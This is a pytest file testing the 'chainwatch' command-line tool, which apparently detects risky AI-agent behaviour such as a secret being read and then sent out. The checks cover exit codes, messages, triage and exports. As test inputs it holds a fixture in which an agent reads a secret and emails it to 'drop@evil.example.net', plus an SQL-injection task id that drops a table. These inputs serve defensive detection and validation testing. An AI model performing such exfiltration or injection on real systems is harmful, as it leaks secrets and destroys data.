"""The `chainwatch` command: exit codes, messages that name the bad input, printed summaries."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest

from chainwatch.cli import EXIT_OK, EXIT_PARTIAL, EXIT_USAGE, main
from tests.conftest import write_lines

NATIVE = [
    {
        "record_type": "task",
        "event_id": "s",
        "ts": "2026-11-01T09:00:00Z",
        "event": "start",
        "task_id": "task-9",
        "agent_id": "agent-3",
    },
    {
        "record_type": "action",
        "event_id": "a",
        "ts": "2026-11-01T09:01:00Z",
        "agent_id": "agent-3",
        "task_id": "task-9",
        "tool": "frobnicate_widget",
    },
    {
        "record_type": "task",
        "event_id": "e",
        "ts": "2026-11-01T09:05:00Z",
        "event": "end",
        "task_id": "task-9",
        "status": "completed",
    },
]


def test_ingest_prints_counts_per_file_and_per_table(tmp_path: Path, capsys):
    path = write_lines(tmp_path / "in" / "n.jsonl", [*NATIVE, "{oops"])
    code = main(["ingest", str(path), "--db", str(tmp_path / "w.duckdb"), "-q"])
    out = capsys.readouterr().out
    assert code == EXIT_OK
    assert (
        "total: 4 records, 3 loaded, 1 rejected, 0 duplicates; 0 file(s) could not be read" in out
    )
    assert re.search(r"agent_actions\s+1\n", out) and re.search(r"rejected_events\s+1\n", out)


def test_ingest_exit_code_and_message_for_an_unreadable_file(tmp_path: Path, capsys):
    good = write_lines(tmp_path / "in" / "n.jsonl", NATIVE)
    code = main(
        [
            "ingest",
            str(good),
            str(tmp_path / "nope.jsonl"),
            "--db",
            str(tmp_path / "w.duckdb"),
            "-q",
        ]
    )
    captured = capsys.readouterr()
    assert code == EXIT_PARTIAL
    assert "nope.jsonl" in captured.out and "1 file(s) could not be read" in captured.out


def test_a_malformed_catalog_is_a_usage_error_naming_file_and_field(tmp_path: Path, capsys):
    catalog = tmp_path / "cat.yaml"
    catalog.write_text("tools:\n  - {tool: send_email, action: exfiltrate}\n")
    path = write_lines(tmp_path / "in" / "n.jsonl", NATIVE)
    code = main(
        ["ingest", str(path), "--db", str(tmp_path / "w.duckdb"), "--catalog", str(catalog)]
    )
    err = capsys.readouterr().err
    assert code == EXIT_USAGE
    assert str(catalog) in err and "tools[0]" in err and "'action'" in err
    assert "Traceback" not in err


def test_a_bad_setting_is_a_usage_error(tmp_path: Path, capsys):
    config = tmp_path / "settings.yaml"
    config.write_text("sts_session_pattern: '(unclosed'\n")
    code = main(
        ["ingest", str(tmp_path), "--db", str(tmp_path / "w.duckdb"), "--config", str(config)]
    )
    assert code == EXIT_USAGE
    assert "sts_session_pattern" in capsys.readouterr().err


def test_unknown_format_is_rejected_by_the_parser(tmp_path: Path):
    with pytest.raises(SystemExit) as exc:
        main(["ingest", str(tmp_path), "--format", "syslog"])
    assert exc.value.code == 2


def test_run_executes_the_dagster_job_and_shows_busiest_tasks(tmp_path: Path, capsys):
    write_lines(tmp_path / "landing" / "2026-11-01" / "n.jsonl", NATIVE)
    code = main(["run", "--landing", str(tmp_path / "landing"), "--db", str(tmp_path / "w.duckdb")])
    out = capsys.readouterr().out
    assert code == EXIT_OK
    assert "ran Dagster job chainwatch_ingest over 2026-11-01 .. 2026-11-01 (1 day(s))" in out
    assert "check warning: agent_actions:ingestion_lag" in out  # the sample is older than a day
    assert "findings by rule and severity:" in out and "findings exported to" in out
    busiest = out.split("busiest tasks:")[1]
    assert "task-9" in busiest and "agent-3" in busiest and "task_event" in busiest


def test_run_on_a_missing_landing_folder_names_it(tmp_path: Path, capsys):
    code = main(["run", "--landing", str(tmp_path / "absent"), "--db", str(tmp_path / "w.duckdb")])
    assert code == EXIT_USAGE
    assert "absent" in capsys.readouterr().err


def test_catalog_report_lists_unmapped_tools_by_count(tmp_path: Path, capsys):
    path = write_lines(tmp_path / "in" / "n.jsonl", NATIVE)
    db = str(tmp_path / "w.duckdb")
    main(["ingest", str(path), "--db", db, "-q"])
    capsys.readouterr()
    assert main(["catalog-report", "--db", db]) == EXIT_OK
    out = capsys.readouterr().out
    assert "frobnicate_widget" in out and "unknown" in out


def test_console_script_help_works():
    result = subprocess.run(
        [sys.executable, "-m", "chainwatch.cli", "--help"],
        capture_output=True,
        text=True,
        check=True,
    )
    for command in ("simulate", "ingest", "run", "catalog-report"):
        assert command in result.stdout


def test_readme_starts_with_the_two_commands():
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text()
    commands = [line.strip() for line in readme.splitlines() if line.strip().startswith("make ")]
    assert commands[:2] == ["make demo", "make test"]


def test_detect_then_findings_in_every_format(tmp_path: Path, capsys):
    import json

    records = [
        *NATIVE,
        {
            "record_type": "action",
            "event_id": "r",
            "ts": "2026-11-01T09:02:00Z",
            "agent_id": "agent-3",
            "task_id": "task-9",
            "tool": "get_secret",
            "action_class": "read",
            "sensitivity": "high",
        },
        {
            "record_type": "action",
            "event_id": "x",
            "ts": "2026-11-01T09:03:00Z",
            "agent_id": "agent-3",
            "task_id": "task-9",
            "tool": "send_email",
            "arguments": {"to": "drop@evil.example.net"},
        },
    ]
    db = str(tmp_path / "w.duckdb")
    main(["ingest", str(write_lines(tmp_path / "in" / "n.jsonl", records)), "--db", db, "-q"])
    capsys.readouterr()
    assert main(["detect", "--db", db]) == EXIT_OK
    out = capsys.readouterr().out
    assert re.search(r"sensitive_read_then_egress\s+high\s+1\s+1\s+0", out)
    assert "native:r native:x" in out  # the top findings show their evidence
    assert (
        main(["findings", "--db", db, "--format", "json", "--rule", "sensitive_read_then_egress"])
        == EXIT_OK
    )
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(r["rule_id"], r["task_id"], r["evidence_event_ids"]) for r in rows] == [
        ("sensitive_read_then_egress", "task-9", ["native:r", "native:x"])
    ]
    assert (
        main(["findings", "--db", db, "--format", "ocsf", "--rule", "sensitive_read_then_egress"])
        == EXIT_OK
    )
    events = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(e["class_uid"], e["finding_info"]["uid"]) for e in events] == [
        (2004, rows[0]["finding_id"])
    ]
    assert main(["findings", "--db", db, "--status", "resolved"]) == EXIT_OK
    assert "0 finding(s)" in capsys.readouterr().out


def test_a_bad_since_is_a_usage_error_without_traceback(tmp_path: Path, capsys):
    with pytest.raises(SystemExit) as exc:
        main(["findings", "--db", str(tmp_path / "w.duckdb"), "--since", "last tuesday"])
    err = capsys.readouterr().err
    assert (
        exc.value.code == 2
        and "not an ISO 8601 time: 'last tuesday'" in err
        and "Traceback" not in err
    )


# --- analyst commands ------------------------------------------------------------------------


@pytest.fixture
def ran(tmp_path: Path, capsys) -> str:
    """A warehouse and its analyst database after `chainwatch run` on one sample day."""
    from tests.conftest import sample_landing

    landing = sample_landing(tmp_path / "landing", days=("2026-11-01",))
    db = str(tmp_path / "wh" / "w.duckdb")
    assert main(["run", "--landing", str(landing), "--db", db]) == EXIT_OK
    out = capsys.readouterr().out
    assert f"analyst database (read-only snapshot of this run): {tmp_path / 'wh'}" in out
    assert "no anomaly model existed: ran chainwatch_refit" in out
    return db


@pytest.mark.slow
def test_show_prints_a_tasks_timeline_with_evidence_and_after_end_marks(ran: str, capsys):
    import duckdb

    con = duckdb.connect(str(Path(ran).parent / "chainwatch_published.duckdb"), read_only=True)
    task_id = con.execute(
        """SELECT task_id FROM findings WHERE rule_id = 'credential_used_after_task'
           ORDER BY finding_id LIMIT 1"""
    ).fetchone()[0]
    con.close()
    assert main(["show", task_id, "--db", ran]) == EXIT_OK
    out = capsys.readouterr().out
    assert out.startswith(f"task {task_id}")
    assert "credential_used_after_task" in out  # its findings
    assert re.search(r"^\*!\s", out, re.M)  # evidence after the task ended is marked
    assert main(["show", "no-such-task'; DROP TABLE tasks; --", "--db", ran]) == EXIT_USAGE
    assert "no task" in capsys.readouterr().err


@pytest.mark.slow
def test_triage_persists_across_a_rerun_and_is_republished(ran: str, tmp_path: Path, capsys):
    import duckdb

    published = Path(ran).parent / "chainwatch_published.duckdb"
    con = duckdb.connect(str(published), read_only=True)
    finding_id = con.execute("SELECT finding_id FROM findings_open LIMIT 1").fetchone()[0]
    con.close()
    code = main(
        ["triage", finding_id, "--status", "in_progress", "--note", "paged owner", "--db", ran]
    )
    assert code == EXIT_OK
    assert "republished" in capsys.readouterr().out
    con = duckdb.connect(str(published), read_only=True)
    assert con.execute(
        "SELECT status, triage_note FROM findings WHERE finding_id = ?", [finding_id]
    ).fetchone() == ("in_progress", "paged owner")
    con.close()
    assert main(["run", "--landing", str(tmp_path / "landing"), "--db", ran]) == EXIT_OK
    con = duckdb.connect(str(published), read_only=True)
    assert con.execute(
        "SELECT status, triage_note FROM findings WHERE finding_id = ?", [finding_id]
    ).fetchone() == ("in_progress", "paged owner")
    con.close()
    capsys.readouterr()
    assert main(["triage", "f_nope", "--status", "resolved", "--db", ran]) == EXIT_USAGE
    assert "no finding 'f_nope'" in capsys.readouterr().err


@pytest.mark.slow
def test_recommend_lists_per_agent_and_filters(ran: str, capsys):
    import json

    assert main(["recommend", "--db", ran, "--category", "ttl", "--format", "json"]) == EXIT_OK
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert rows and {r["category"] for r in rows} == {"ttl"}
    agent = rows[0]["agent_id"]
    assert main(["recommend", "--db", ran, "--agent", agent]) == EXIT_OK
    out = capsys.readouterr().out
    assert agent in out and "recommendation(s)" in out


def test_analyst_commands_explain_a_missing_snapshot(tmp_path: Path, capsys):
    db = str(tmp_path / "w.duckdb")
    for argv in (["show", "t1"], ["report"], ["investigate", "f_1"]):
        assert main([*argv, "--db", db]) == EXIT_USAGE
        assert "no published analyst database" in capsys.readouterr().err


def test_every_command_has_help():
    from chainwatch.cli import build_parser

    parser = build_parser()
    commands = parser._subparsers._group_actions[0].choices  # noqa: SLF001 - argparse has no API
    for name, sub in commands.items():
        assert sub.format_help().startswith(f"usage: chainwatch {name}")
    assert {"show", "triage", "recommend", "investigate", "report", "refit"} <= set(commands)


def test_run_engine_spark_on_a_missing_lake_is_a_one_line_error(tmp_path, capsys):
    from chainwatch.cli import main

    code = main(["run", "--engine", "spark", "--lake", str(tmp_path / "nowhere")])
    err = capsys.readouterr().err
    assert code == 2
    assert err.strip() == (
        f"chainwatch: error: lake folder {tmp_path / 'nowhere'} does not exist "
        "(fill it with --raw, --export or lake-export)"
    )


def test_run_engine_spark_on_a_missing_landing_folder_is_a_one_line_error(tmp_path, capsys):
    from chainwatch.cli import main

    code = main(["run", "--engine", "spark", "--raw", str(tmp_path / "none"), "--lake", "x"])
    err = capsys.readouterr().err
    assert code == 2
    assert err.strip() == f"chainwatch: error: landing folder {tmp_path / 'none'} does not exist"
    assert not (tmp_path / "x").exists()


def test_run_engine_spark_takes_one_source_for_the_lake(tmp_path, capsys):
    from chainwatch.cli import main

    code = main(["run", "--engine", "spark", "--raw", str(tmp_path), "--export"])
    assert code == 2
    assert capsys.readouterr().err.strip() == (
        "chainwatch: error: choose one source for the lake: --raw (landing files) or --export"
    )


def test_lake_export_writes_tables_by_day_and_models(published_sample, tmp_path, capsys):
    import shutil

    import duckdb

    from chainwatch.cli import main

    db = tmp_path / "wh.duckdb"
    shutil.copy(published_sample.parent / "wh.duckdb", db)
    assert main(["lake-export", "--db", str(db), "--lake", str(tmp_path / "lake")]) == 0
    assert "lake written to" in capsys.readouterr().out
    days = sorted(p.name for p in (tmp_path / "lake" / "agent_actions").iterdir())
    assert days and all(d.startswith("day=") for d in days)
    con = duckdb.connect(str(db), read_only=True)
    try:
        for table in ("agent_actions", "credential_events", "tasks"):
            written = duckdb.execute(
                "SELECT count(*) FROM read_parquet(?)",
                [str(tmp_path / "lake" / table / "**" / "*.parquet")],
            ).fetchone()[0]
            assert written == con.execute(f"SELECT count(*) FROM {table}").fetchone()[0]
        models = con.execute("SELECT count(DISTINCT peer_group) FROM anomaly_models").fetchone()[0]
    finally:
        con.close()
    exported = duckdb.execute(
        "SELECT count(*) FROM read_parquet(?)",
        [str(tmp_path / "lake" / "models" / "anomaly_models" / "*.parquet")],
    ).fetchone()[0]
    assert exported == models > 0
    # A rerun replaces the folders: nothing is written twice.
    before = duckdb.execute(
        "SELECT count(*) FROM read_parquet(?)",
        [str(tmp_path / "lake" / "agent_actions" / "**" / "*.parquet")],
    ).fetchone()[0]
    assert main(["lake-export", "--db", str(db), "--lake", str(tmp_path / "lake")]) == 0
    after = duckdb.execute(
        "SELECT count(*) FROM read_parquet(?)",
        [str(tmp_path / "lake" / "agent_actions" / "**" / "*.parquet")],
    ).fetchone()[0]
    assert after == before > 1000


def test_run_engine_spark_takes_the_lake_from_the_settings(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("CHAINWATCH_LAKE", str(tmp_path / "from-env"))
    assert main(["run", "--engine", "spark"]) == EXIT_USAGE
    assert f"lake folder {tmp_path / 'from-env'} does not exist" in capsys.readouterr().err
    assert main(["run", "--engine", "spark", "--lake", str(tmp_path / "given")]) == EXIT_USAGE
    assert f"lake folder {tmp_path / 'given'} does not exist" in capsys.readouterr().err


def test_evaluate_with_an_unreadable_labels_file_is_a_one_line_usage_error(tmp_path, capsys):
    db = str(tmp_path / "w.duckdb")
    main(["ingest", str(write_lines(tmp_path / "in" / "n.jsonl", NATIVE)), "--db", db, "-q"])
    capsys.readouterr()
    code = main(["evaluate", "--labels", str(tmp_path / "absent.jsonl"), "--db", db])
    err = capsys.readouterr().err
    assert code == EXIT_USAGE
    assert err.startswith("chainwatch: error: cannot read labels file") and err.count("\n") == 1


def test_importing_the_cli_loads_neither_the_harness_nor_sklearn_metrics():
    code = (
        "import sys, chainwatch.cli; print(sorted(m for m in sys.modules "
        "if m.startswith('chainwatch.harness') or m == 'sklearn.metrics'))"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "[]"


def test_the_cli_holds_no_sql():
    """Queries live in sql/ and run through detectors/; the CLI only prints what they return."""
    package = Path(__file__).resolve().parents[2] / "chainwatch" / "cli"
    sql = re.compile(r"\b(SELECT|INSERT|UPDATE|DELETE|CREATE|information_schema)\b")
    offenders = [
        f"{path.name}:{n}"
        for path in sorted(package.glob("*.py"))
        for n, line in enumerate(path.read_text().splitlines(), 1)
        if sql.search(line)
    ]
    assert offenders == []
